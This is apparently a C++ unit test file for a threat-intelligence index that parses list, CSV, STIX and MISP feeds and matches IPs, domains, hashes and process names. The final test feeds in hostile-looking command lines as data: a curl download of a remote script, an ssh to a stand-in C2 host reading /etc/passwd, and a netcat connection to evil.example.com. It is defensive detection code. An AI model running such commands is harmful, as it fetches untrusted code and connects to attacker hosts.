// Given a threat-intel feed in one of its formats, the index holds what it names and answers lookups as an analyst
// expects: the most specific CIDR, a domain and its subdomains, hashes in any case; a broken feed says where.
#include <gtest/gtest.h>

#include <arpa/inet.h>

#include <random>

#include "enrich/feeds/feed.hpp"
#include "enrich/feeds/host_tokens.hpp"
#include "enrich/feeds/stix_feed.hpp"
#include "enrich/feeds/threat_intel_index.hpp"
#include "test_util.hpp"

using namespace saker;
using saker::test::data_path;
using saker::test::read_file;

namespace {

std::uint32_t v4(const char* text) {
  in_addr a{};
  EXPECT_EQ(inet_pton(AF_INET, text, &a), 1) << text;
  return ntohl(a.s_addr);
}

const Indicator* find6(const ThreatIntelIndex& ix, const char* text) {
  std::uint8_t b[16];
  EXPECT_EQ(inet_pton(AF_INET6, text, b), 1) << text;
  return ix.find_ipv6(b);
}

std::string value_of(const Indicator* i) { return i ? std::string(i->value) : "<none>"; }

// Parses `text` as one feed into a fresh index.
struct Loaded {
  std::shared_ptr<const ThreatIntelIndex> index;
  Result<FeedStats> stats = FeedStats{};
};
Loaded load(FeedFormat format, std::string_view text, std::string_view file = "feed", std::int64_t now = 0,
            FeedLimits limits = {}) {
  ThreatIntelIndex::Builder b;
  FeedInput in;
  in.text = text;
  in.file = file;
  in.feed = b.add_feed("test");
  in.now_ns = now;
  in.limits = limits;
  Loaded out;
  out.stats = parse_feed(format, in, b);
  out.index = b.build();
  return out;
}

Loaded load_file(FeedFormat format, const std::string& name) {
  static std::vector<std::unique_ptr<std::string>> texts;  // the feeds outlive nothing: the index copies
  texts.push_back(std::make_unique<std::string>(read_file(data_path("threat_intel/" + name))));
  return load(format, *texts.back(), name, 1'700'000'000'000'000'000);
}

}  // namespace

TEST(ThreatIntelIndex, TheLongestIpv4PrefixWinsOverlappingCidrs) {
  ThreatIntelIndex::Builder b;
  const auto f = b.add_feed("f");
  for (const char* v : {"10.1.0.0/16", "10.0.0.0/8", "10.1.2.3", "10.1.2.0/24", "255.255.255.255", "0.0.0.0/1"}) {
    ASSERT_EQ(b.add(ValueKind::Ip, v, f), ThreatIntelIndex::Builder::Added::Added) << v;
  }
  const auto ix = b.build();
  EXPECT_EQ(value_of(ix->find_ipv4(v4("10.1.2.3"))), "10.1.2.3");
  EXPECT_EQ(value_of(ix->find_ipv4(v4("10.1.2.4"))), "10.1.2.0/24");
  EXPECT_EQ(value_of(ix->find_ipv4(v4("10.1.3.1"))), "10.1.0.0/16");
  EXPECT_EQ(value_of(ix->find_ipv4(v4("10.255.255.255"))), "10.0.0.0/8");
  EXPECT_EQ(value_of(ix->find_ipv4(v4("9.255.255.255"))), "0.0.0.0/1");
  EXPECT_EQ(value_of(ix->find_ipv4(v4("11.0.0.0"))), "0.0.0.0/1");
  EXPECT_EQ(ix->find_ipv4(v4("128.0.0.0")), nullptr);
  EXPECT_EQ(ix->find_ipv4(v4("255.255.255.254")), nullptr);
  EXPECT_EQ(value_of(ix->find_ipv4(v4("255.255.255.255"))), "255.255.255.255");
  EXPECT_EQ(ix->find_ipv4(v4("10.1.2.3"))->type, IndicatorType::Ipv4);
}

TEST(ThreatIntelIndex, TheLongestIpv6PrefixWinsAndMappedAddressesAreIpv4) {
  ThreatIntelIndex::Builder b;
  const auto f = b.add_feed("f");
  for (const char* v : {"2001:db8::/32", "2001:db8:dead::/48", "2001:db8:dead:beef::1", "203.0.113.0/24",
                        "::ffff:198.51.100.0/120", "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff"}) {
    ASSERT_EQ(b.add(ValueKind::Ip, v, f), ThreatIntelIndex::Builder::Added::Added) << v;
  }
  const auto ix = b.build();
  EXPECT_EQ(value_of(find6(*ix, "2001:db8:dead:beef::1")), "2001:db8:dead:beef::1");
  EXPECT_EQ(value_of(find6(*ix, "2001:db8:dead:beef::2")), "2001:db8:dead::/48");
  EXPECT_EQ(value_of(find6(*ix, "2001:db8:1::1")), "2001:db8::/32");
  EXPECT_EQ(find6(*ix, "2001:db9::1"), nullptr);
  EXPECT_EQ(value_of(find6(*ix, "::ffff:203.0.113.9")), "203.0.113.0/24");  // an IPv4-mapped address is IPv4
  EXPECT_EQ(value_of(ix->find_ipv4(v4("198.51.100.5"))), "::ffff:198.51.100.0/120");
  EXPECT_EQ(value_of(find6(*ix, "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff")), "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff");
  EXPECT_EQ(find6(*ix, "ffff:ffff:ffff:ffff:ffff:ffff:ffff:fffe"), nullptr);
  EXPECT_EQ(find6(*ix, "2001:db8:dead:beef::1")->type, IndicatorType::Ipv6);
}

TEST(ThreatIntelIndex, RangesAgreeWithABruteForceLongestPrefixMatch) {
  std::mt19937 rng(7);
  struct P {
    std::uint32_t start;
    int len;
  };
  std::vector<P> prefixes;
  ThreatIntelIndex::Builder b;
  const auto f = b.add_feed("f");
  for (int i = 0; i < 3000; ++i) {
    const int len = 8 + static_cast<int>(rng() % 25);
    const std::uint32_t mask = len == 32 ? ~0u : ~(~0u >> len);
    const std::uint32_t start = (0x0a000000u | (rng() & 0x00ffffffu)) & mask;  // all within 10/8: they overlap
    char text[32];
    snprintf(text, sizeof text, "%u.%u.%u.%u/%d", start >> 24, (start >> 16) & 255, (start >> 8) & 255, start & 255, len);
    if (b.add(ValueKind::Ip, text, f) == ThreatIntelIndex::Builder::Added::Added) prefixes.push_back({start, len});
  }
  const auto ix = b.build();
  for (int i = 0; i < 20000; ++i) {
    const std::uint32_t a = 0x0a000000u | (rng() & 0x00ffffffu);
    int best = -1;
    for (const P& p : prefixes) {
      const std::uint32_t mask = p.len == 32 ? ~0u : ~(~0u >> p.len);
      if ((a & mask) == p.start && p.len > best) best = p.len;
    }
    const Indicator* got = ix->find_ipv4(a);
    if (best < 0) {
      EXPECT_EQ(got, nullptr) << a;
      continue;
    }
    ASSERT_NE(got, nullptr) << a;
    EXPECT_EQ(got->value.substr(got->value.find('/') + 1), std::to_string(best)) << a;
  }
}

TEST(ThreatIntelIndex, DomainsMatchExactlyAndAsParentsButNotAsSuffixes) {
  ThreatIntelIndex::Builder b;
  const auto f = b.add_feed("f");
  ASSERT_EQ(b.add(ValueKind::Domain, "Evil.COM.", f), ThreatIntelIndex::Builder::Added::Added);
  ASSERT_EQ(b.add(ValueKind::Domain, "deep.cdn.example.org", f), ThreatIntelIndex::Builder::Added::Added);
  ASSERT_EQ(b.add(ValueKind::Domain, "example.org", f), ThreatIntelIndex::Builder::Added::Added);
  EXPECT_EQ(b.add(ValueKind::Domain, "evil.com", f), ThreatIntelIndex::Builder::Added::Duplicate);
  EXPECT_EQ(b.add(ValueKind::Domain, "com", f), ThreatIntelIndex::Builder::Added::Invalid);  // one label
  EXPECT_EQ(b.add(ValueKind::Domain, "bad domain.com", f), ThreatIntelIndex::Builder::Added::Invalid);
  const auto ix = b.build();
  EXPECT_EQ(value_of(ix->find_domain("evil.com")), "Evil.COM.");
  EXPECT_EQ(value_of(ix->find_domain("A.b.EVIL.com.")), "Evil.COM.");
  EXPECT_EQ(ix->find_domain("notevil.com"), nullptr);
  EXPECT_EQ(ix->find_domain("evil.com.au"), nullptr);
  EXPECT_EQ(ix->find_domain("com"), nullptr);
  EXPECT_EQ(value_of(ix->find_domain("x.deep.cdn.example.org")), "deep.cdn.example.org");  // the most specific
  EXPECT_EQ(value_of(ix->find_domain("cdn.example.org")), "example.org");
  EXPECT_EQ(ix->find_domain(std::string(300, 'a') + ".evil.com"), nullptr);  // longer than a host name can be
}

TEST(ThreatIntelIndex, HashesMatchInAnyCaseAndProcessNamesExactly) {
  ThreatIntelIndex::Builder b;
  const auto f = b.add_feed("f");
  ASSERT_EQ(b.add(ValueKind::Sha256, "EF537F25C895BFA782526529A9B63D97AA631564D5D789C2B765448C8635FB6C", f),
            ThreatIntelIndex::Builder::Added::Added);
  ASSERT_EQ(b.add(ValueKind::Md5, "001dd76872d80801692ff942308c64e6", f), ThreatIntelIndex::Builder::Added::Added);
  EXPECT_EQ(b.add(ValueKind::Md5, "da39a3ee5e6b4b0d3255bfef95601890afd80709", f),
            ThreatIntelIndex::Builder::Added::Invalid);  // a SHA-1 is no MD5
  EXPECT_EQ(b.add(ValueKind::Sha1, "zz39a3ee5e6b4b0d3255bfef95601890afd80709", f), ThreatIntelIndex::Builder::Added::Invalid);
  ASSERT_EQ(b.add(ValueKind::Process, "xmrig", f), ThreatIntelIndex::Builder::Added::Added);
  const auto ix = b.build();
  EXPECT_NE(ix->find_hash("ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c"), nullptr);
  EXPECT_NE(ix->find_hash("001DD76872D80801692FF942308C64E6"), nullptr);
  EXPECT_EQ(ix->find_hash("001DD76872D80801692FF942308C64E7"), nullptr);
  EXPECT_EQ(ix->find_hash("not a hash"), nullptr);
  EXPECT_EQ(ix->find_hash("001DD76872D80801692FF942308C64E6")->type, IndicatorType::File);
  EXPECT_NE(ix->find_process("xmrig"), nullptr);
  EXPECT_EQ(ix->find_process("XMRIG"), nullptr);
  EXPECT_EQ(ix->count(f, IndicatorType::File), 2u);
  EXPECT_EQ(ix->count(f, IndicatorType::Process), 1u);
}

TEST(ListFeed, InfersEachLineSTypeAndSkipsCommentsAndBlankLines) {
  const auto r = load_file(FeedFormat::List, "ips.txt");
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  EXPECT_EQ(r.stats.value().added, 11u);
  const auto& ix = *r.index;
  EXPECT_EQ(value_of(ix.find_ipv4(v4("203.0.113.7"))), "203.0.113.7");
  EXPECT_EQ(value_of(ix.find_ipv4(v4("203.0.113.200"))), "203.0.113.128/25");
  EXPECT_EQ(value_of(ix.find_ipv4(v4("203.0.113.1"))), "203.0.113.0/24");  // the comment after it is not part of it
  EXPECT_EQ(value_of(find6(ix, "2001:db8:dead:1::5")), "2001:db8:dead::/48");
  EXPECT_EQ(value_of(ix.find_domain("www.evil.example.com")), "evil.example.com");
  EXPECT_EQ(value_of(ix.find_domain("malware.test")), "malware.test.");
  EXPECT_NE(ix.find_hash("ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c"), nullptr);
  EXPECT_EQ(value_of(ix.find_domain("x4z9arb.cn")), "http://x4z9arb.cn/4712/");  // a URL: its host
}

TEST(ListFeed, ABadLineIsAnErrorNamingTheFileAndLine) {
  const auto r = load(FeedFormat::List, "# ok\n1.2.3.4\r\n\nnot a domain!\n", "bad.txt");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message,
            "bad.txt:4: \"not a domain!\" is not an IP address, CIDR, domain, URL or MD5/SHA-1/SHA-256 hash");
  const auto octet = load(FeedFormat::List, "999.1.1.1\n", "bad.txt");  // no address, and no domain either
  ASSERT_FALSE(octet.stats);
  EXPECT_NE(octet.stats.error().message.find("bad.txt:1: \"999.1.1.1\" is not"), std::string::npos);
  const auto cidr = load(FeedFormat::List, "10.0.0.0/33\n", "bad.txt");
  ASSERT_FALSE(cidr.stats);
  EXPECT_NE(cidr.stats.error().message.find("bad.txt:1:"), std::string::npos);
  FeedLimits limits;
  limits.max_line_bytes = 16;
  const auto longer = load(FeedFormat::List, "1.2.3.4\n" + std::string(17, 'a') + "\n", "long.txt", 0, limits);
  ASSERT_FALSE(longer.stats);
  EXPECT_EQ(longer.stats.error().message, "long.txt:2: line longer than 16 bytes");
  limits = {};
  limits.max_indicators = 2;
  const auto many = load(FeedFormat::List, "1.1.1.1\n2.2.2.2\n3.3.3.3\n", "many.txt", 0, limits);
  ASSERT_FALSE(many.stats);
  EXPECT_NE(many.stats.error().message.find("many.txt:3: more than 2 indicators"), std::string::npos);
}

TEST(CsvFeed, ReadsTypedRowsWithQuotedFields) {
  const auto r = load_file(FeedFormat::Csv, "iocs.csv");
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  EXPECT_EQ(r.stats.value().added, 7u);
  const auto& ix = *r.index;
  EXPECT_NE(ix.find_ipv4(v4("192.0.2.66")), nullptr);
  EXPECT_EQ(value_of(ix.find_ipv4(v4("192.0.2.130"))), "192.0.2.128/26");
  EXPECT_NE(ix.find_domain("c2.example.net"), nullptr);
  EXPECT_EQ(value_of(ix.find_domain("drop.example.org")), "https://drop.example.org/payload.sh");
  EXPECT_NE(ix.find_hash("001dd76872d80801692ff942308c64e6"), nullptr);
  EXPECT_NE(ix.find_hash("DA39A3EE5E6B4B0D3255BFEF95601890AFD80709"), nullptr);
  EXPECT_NE(ix.find_process("xmrig"), nullptr);
}

TEST(CsvFeed, AMissingHeaderAnUnknownTypeOrABadValueIsAnErrorWithItsLine) {
  auto r = load(FeedFormat::Csv, "ip,1.2.3.4\n", "x.csv");
  ASSERT_FALSE(r.stats);
  EXPECT_NE(r.stats.error().message.find("x.csv:1: the first line must be a header naming the columns type and value"),
            std::string::npos) << r.stats.error().message;
  r = load(FeedFormat::Csv, "type,value\nip,1.2.3.4\nasn,AS64500\n", "x.csv");
  ASSERT_FALSE(r.stats);
  EXPECT_NE(r.stats.error().message.find("x.csv:3: unknown type \"asn\""), std::string::npos) << r.stats.error().message;
  r = load(FeedFormat::Csv, "Value,Type\n1.2.3.4,ip\nnot-an-ip,ip\n", "x.csv");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message, "x.csv:3: \"not-an-ip\" is not a valid ip");
  r = load(FeedFormat::Csv, "type,value\nip,\"1.2.3.4\n", "x.csv");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message, "x.csv:2: a quote is not closed");
  EXPECT_FALSE(load(FeedFormat::Csv, "", "empty.csv").stats);
}

TEST(StixPattern, ReadsOrJoinedComparisonsAndRefusesWhatItCannotMatch) {
  std::vector<StixComparison> c;
  std::size_t skipped = 0;
  ASSERT_TRUE(parse_stix_pattern("[domain-name:value = 'a.example' OR ipv4-addr:value = '192.0.2.1']", c, skipped));
  ASSERT_EQ(c.size(), 2u);
  EXPECT_EQ(c[0].kind, ValueKind::Domain);
  EXPECT_EQ(c[1].value, "192.0.2.1");
  ASSERT_TRUE(parse_stix_pattern("[file:hashes.MD5 = 'aa'] OR [file:hashes.'SHA-256' = 'bb']", c, skipped));
  EXPECT_EQ(c[0].kind, ValueKind::Md5);
  EXPECT_EQ(c[1].kind, ValueKind::Sha256);
  ASSERT_TRUE(parse_stix_pattern("[process:name = 'it\\'s' OR file:name = 'x.exe']", c, skipped));
  EXPECT_EQ(c[0].value, "it's");
  EXPECT_EQ(skipped, 1u);
  EXPECT_FALSE(parse_stix_pattern("[ipv4-addr:value = '1.2.3.4' AND ipv4-addr:value = '1.2.3.5']", c, skipped));
  EXPECT_FALSE(parse_stix_pattern("[ipv4-addr:value = '1.2.3.4'] WITHIN 5 SECONDS", c, skipped));
  EXPECT_FALSE(parse_stix_pattern("[ipv4-addr:value ISSUBSET '1.2.3.0/24']", c, skipped));
  EXPECT_FALSE(parse_stix_pattern("[file:name = 'CBricksDoc']", c, skipped));
  EXPECT_FALSE(parse_stix_pattern("[ipv4-addr:value = '1.2.3.4'", c, skipped));
}

TEST(StixFeed, Apt1BundleGivesItsCidrsDomainsAndHashes) {
  const auto r = load_file(FeedFormat::Stix, "stix21-apt1.json");
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  EXPECT_EQ(r.stats.value().added, 10u);
  EXPECT_EQ(r.stats.value().unsupported, 2u);  // the two x509-certificate patterns
  const auto& ix = *r.index;
  EXPECT_EQ(value_of(ix.find_ipv4(v4("223.167.10.1"))), "223.166.0.0/15");
  EXPECT_EQ(ix.find_ipv4(v4("223.168.0.1")), nullptr);
  EXPECT_EQ(value_of(ix.find_domain("mail.hugesoft.org")), "hugesoft.org");
  EXPECT_NE(ix.find_hash("001DD76872D80801692FF942308C64E6"), nullptr);
}

TEST(StixFeed, PoisonIvyOrPatternsGiveEveryComparison) {
  const auto r = load_file(FeedFormat::Stix, "stix21-poisonivy.json");
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  const auto& ix = *r.index;
  EXPECT_EQ(value_of(ix.find_domain("www.webserver.dynssl.com")), "www.webserver.dynssl.com");
  EXPECT_NE(ix.find_ipv4(v4("113.10.246.30")), nullptr);
  EXPECT_NE(ix.find_ipv4(v4("219.76.208.163")), nullptr);
  EXPECT_NE(ix.find_ipv4(v4("60.10.1.115")), nullptr);  // beside 'domain autuo.xicp.net', which is no domain
  EXPECT_EQ(r.stats.value().invalid, 1u);
  EXPECT_EQ(r.stats.value().unsupported, 2u);  // the two file:name patterns
  // 113.10.246.30 is in three patterns: the index holds it once (address duplicates are found when it is built).
  EXPECT_LT(ix.count(0, IndicatorType::Ipv4), r.stats.value().added);
}

TEST(StixFeed, UrlAndSha256BundlesMatchTheUrlsHostAndTheHash) {
  const auto url = load_file(FeedFormat::Stix, "stix21-indicator-for-malicious-url.json");
  ASSERT_TRUE(url.stats) << url.stats.error().message;
  EXPECT_EQ(value_of(url.index->find_domain("x4z9arb.cn")), "http://x4z9arb.cn/4712/");
  const auto hash = load_file(FeedFormat::Stix, "stix21-malware-indicator-for-file-hash.json");
  ASSERT_TRUE(hash.stats) << hash.stats.error().message;
  EXPECT_NE(hash.index->find_hash("EF537F25C895BFA782526529A9B63D97AA631564D5D789C2B765448C8635FB6C"), nullptr);
}

TEST(StixFeed, RevokedExpiredAndOtherPatternLanguagesAreSkippedAndCounted) {
  const std::string bundle = R"({"type":"bundle","id":"bundle--1","objects":[
    {"type":"indicator","pattern":"[ipv4-addr:value = '192.0.2.1']","valid_until":"2020-01-01T00:00:00Z"},
    {"type":"indicator","pattern":"[ipv4-addr:value = '192.0.2.2']","valid_until":"9999-12-31T23:59:59Z"},
    {"type":"indicator","pattern":"[ipv4-addr:value = '192.0.2.3']","revoked":true},
    {"type":"indicator","pattern":"alert tcp any any -> 192.0.2.4 any","pattern_type":"snort"},
    {"type":"malware","name":"x"}]})";
  const auto r = load(FeedFormat::Stix, bundle, "b.json", 1'700'000'000'000'000'000);
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  EXPECT_EQ(r.stats.value().added, 1u);
  EXPECT_EQ(r.stats.value().expired, 1u);
  EXPECT_EQ(r.stats.value().revoked, 1u);
  EXPECT_EQ(r.stats.value().unsupported, 1u);
  EXPECT_EQ(r.index->find_ipv4(v4("192.0.2.1")), nullptr);
  EXPECT_NE(r.index->find_ipv4(v4("192.0.2.2")), nullptr);
  EXPECT_EQ(r.index->find_ipv4(v4("192.0.2.3")), nullptr);
}

TEST(StixFeed, TruncatedJsonAndWrongShapesAreErrorsWithTheirPath) {
  const std::string full = read_file(data_path("threat_intel/stix21-apt1.json"));
  auto r = load(FeedFormat::Stix, std::string_view(full).substr(0, full.size() / 2), "apt1.json");
  ASSERT_FALSE(r.stats);
  EXPECT_NE(r.stats.error().message.find("apt1.json: not valid JSON"), std::string::npos) << r.stats.error().message;
  r = load(FeedFormat::Stix, R"({"type":"bundle","objects":{}})", "b.json");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message, "b.json: $.objects: must be a list of STIX objects");
  r = load(FeedFormat::Stix, R"({"type":"bundle","objects":[{"type":"malware"},{"type":"indicator"}]})", "b.json");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message, "b.json: $.objects[1].pattern: missing or not a string");
  r = load(FeedFormat::Stix, R"({"type":"indicator"})", "b.json");
  ASSERT_FALSE(r.stats);
  EXPECT_NE(r.stats.error().message.find("b.json: $: not a STIX 2.1 bundle"), std::string::npos);
  r = load(FeedFormat::Stix, R"({"type":"bundle","objects":[{"type":"indicator","pattern":"[ipv4-addr:value = '1.2.3.4']","valid_until":"soon"}]})", "b.json");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message, "b.json: $.objects[0].valid_until: not an RFC 3339 time");
  FeedLimits deep;
  deep.max_json_depth = 4;
  r = load(FeedFormat::Stix, R"({"type":"bundle","objects":[[[[[1]]]]]})", "b.json", 0, deep);
  EXPECT_FALSE(r.stats);
}

TEST(MispFeed, TheOsintEventGivesItsToIdsAttributesOnly) {
  const auto r = load_file(FeedFormat::Misp, "misp-event-osint-asert-four-element-sword.json");
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  const auto& ix = *r.index;
  EXPECT_NE(ix.find_ipv4(v4("103.240.203.232")), nullptr);   // ip-dst, to_ids true
  EXPECT_EQ(ix.find_ipv4(v4("114.60.106.156")), nullptr);    // ip-dst, to_ids false
  EXPECT_NE(ix.find_domain("akm.epac.to"), nullptr);         // hostname
  EXPECT_EQ(ix.find_domain("uyguhr1.webhop.net"), nullptr);  // hostname, to_ids false
  EXPECT_NE(ix.find_domain("gugehotel.cn"), nullptr);        // domain
  EXPECT_EQ(value_of(ix.find_hash("6DB7AD23186F445C410F59A41E7F8AC5")), "6db7ad23186f445c410f59a41e7f8ac5");  // filename|md5
  EXPECT_NE(ix.find_hash("185fc01ec8adbaa94da741c4c1cf1b83185ae63899f14ce9949553c5dac3ecf6"), nullptr);
  EXPECT_EQ(ix.find_hash("af2cc5bb8d97bf019280c80e2891103a8a1d5e5f8c6305b6f6c4dd83ec245a7d"), nullptr);  // to_ids false
  EXPECT_NE(ix.find_domain("www.whitewall.top"), nullptr);  // a url without a scheme: its host
  const FeedStats& s = r.stats.value();
  EXPECT_GT(s.not_ids, 100u);
  EXPECT_GT(s.unsupported, 0u);  // imphash, pehash, ssdeep, filename, ...
  EXPECT_GT(s.added, 150u);
}

TEST(MispFeed, ReadsListsResponsesObjectsAndCompositeTypes) {
  const std::string doc = R"({"response":[{"Event":{"Attribute":[
      {"type":"ip-dst|port","value":"192.0.2.9|443","to_ids":"1"},
      {"type":"domain|ip","value":"c2.example.net|198.51.100.9","to_ids":true},
      {"type":"sha1","value":"da39a3ee5e6b4b0d3255bfef95601890afd80709","to_ids":true,"deleted":true}],
    "Object":[{"name":"file","Attribute":[{"type":"sha256","value":"ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c","to_ids":true}]}]}}]})";
  auto r = load(FeedFormat::Misp, doc, "m.json");
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  EXPECT_EQ(r.stats.value().added, 4u);
  EXPECT_EQ(r.stats.value().revoked, 1u);
  EXPECT_EQ(value_of(r.index->find_ipv4(v4("192.0.2.9"))), "192.0.2.9");
  EXPECT_NE(r.index->find_ipv4(v4("198.51.100.9")), nullptr);
  EXPECT_NE(r.index->find_domain("c2.example.net"), nullptr);
  EXPECT_NE(r.index->find_hash("EF537F25C895BFA782526529A9B63D97AA631564D5D789C2B765448C8635FB6C"), nullptr);
  EXPECT_EQ(r.index->find_hash("da39a3ee5e6b4b0d3255bfef95601890afd80709"), nullptr);
  r = load(FeedFormat::Misp, R"([{"Event":{"Attribute":[{"type":"ip-src","value":"192.0.2.1","to_ids":true}]}}])", "m.json");
  ASSERT_TRUE(r.stats) << r.stats.error().message;
  EXPECT_NE(r.index->find_ipv4(v4("192.0.2.1")), nullptr);
}

TEST(MispFeed, TruncatedJsonAndWrongShapesAreErrorsWithTheirPath) {
  const std::string full = read_file(data_path("threat_intel/misp-event-osint-asert-four-element-sword.json"));
  auto r = load(FeedFormat::Misp, std::string_view(full).substr(0, full.size() - 10), "misp.json");
  ASSERT_FALSE(r.stats);
  EXPECT_NE(r.stats.error().message.find("misp.json: not valid JSON"), std::string::npos);
  r = load(FeedFormat::Misp, R"({"Event":{"Attribute":{}}})", "m.json");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message, "m.json: $.Event.Attribute: must be a list");
  r = load(FeedFormat::Misp, R"({"response":[{"Event":{"Attribute":[{"type":"ip-dst","value":"1.2.3.4"},{"type":"md5"}]}}]})", "m.json");
  ASSERT_FALSE(r.stats);
  EXPECT_EQ(r.stats.error().message, "m.json: $.response[0].Event.Attribute[1].value: missing or not a string");
  r = load(FeedFormat::Misp, R"({"type":"bundle"})", "m.json");
  ASSERT_FALSE(r.stats);
  EXPECT_NE(r.stats.error().message.find("m.json: $: not a MISP export"), std::string::npos);
}

TEST(HostTokens, FindHostsAndUrlHostsInACommandLine) {
  std::vector<std::string> hosts;
  const auto collect = [&](std::string_view text, HostTokenLimits limits = {}) {
    hosts.clear();
    for_each_host(text, limits, [&](const HostToken& t) {
      if (t.url || looks_like_domain(t.host)) hosts.emplace_back(t.host);
    });
  };
  collect(R"(curl -fsSL "https://user@Drop.Example.org:8443/x.sh?a=b" -o x.sh; wget evil.com. ; ssh root@c2.example.net:22 ls /etc/passwd 1.2.3)");
  // x.sh (after -o) is a file name that looks like a domain: found, as file.tar.gz below (only a feed's entry matches).
  EXPECT_EQ(hosts, (std::vector<std::string>{"Drop.Example.org", "x.sh", "evil.com", "c2.example.net"}));
  collect("--url=http://[2001:db8::1]:80/ http://192.0.2.1/a");
  EXPECT_EQ(hosts, (std::vector<std::string>{"2001:db8::1", "192.0.2.1"}));
  collect("sh -c 'nc evil.example.com 4444' a.b.c.d1 x.y.z file.tar.gz");
  // A number or one letter is no top-level domain; a file name may look like a domain (only a feed's entry matches).
  EXPECT_EQ(hosts, (std::vector<std::string>{"evil.example.com", "file.tar.gz"}));
  HostTokenLimits limits;
  limits.max_tokens = 2;
  collect("a.com b.com c.com", limits);
  EXPECT_EQ(hosts, (std::vector<std::string>{"a.com", "b.com"}));
}
